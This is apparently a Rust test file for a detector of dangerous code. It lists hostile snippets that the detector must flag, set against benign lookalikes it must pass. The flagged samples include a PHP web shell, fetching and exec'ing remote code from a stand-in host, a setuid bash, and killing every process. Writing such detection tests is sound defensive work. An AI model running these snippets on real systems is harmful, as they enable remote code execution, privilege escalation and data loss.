use super::*;

#[test]
fn signs_are_seen_and_ordinary_code_is_not() {
    for text in [
        "pickle.loads(urllib.request.urlopen('http://x.test/p').read())",
        "import os, signal\nos.kill(-1, signal.SIGKILL)",
        "for p in psutil.process_iter():\n    p.kill()",
        "code = requests.get('http://x.test/a.py').text\nexec(code)",
        "<?php system($_GET['cmd']); ?>",
        "os.chmod('/bin/bash', 0o4755)",
        "import requests\nopen('/tmp/m','wb').write(requests.get('http://x.test/m').content)\nsubprocess.Popen(['/tmp/m'])",
    ] {
        let mut seen = Dangers::default();
        look(text, &mut seen);
        assert!(!seen.found.is_empty(), "{text}");
    }
    for text in [
        "m = pickle.loads(open('m.pkl', 'rb').read())",
        "os.kill(pid, signal.SIGTERM)",
        "for p in psutil.process_iter():\n    print(p.name())",
        "page = requests.get('https://x.test/').text\nprint(page)",
        "os.chmod('run.sh', 0o755)",
        "exec(open('setup_env.py').read())",
    ] {
        let mut seen = Dangers::default();
        look(text, &mut seen);
        assert!(seen.found.is_empty(), "{text}: {:?}", seen.found);
    }
}

#[test]
fn every_expression_of_the_tables_compiles() {
    for table in [&PATTERNS, &crate::prefilter::destructive_command::windows::PATTERNS] {
        assert!(table.get().compile());
    }
}
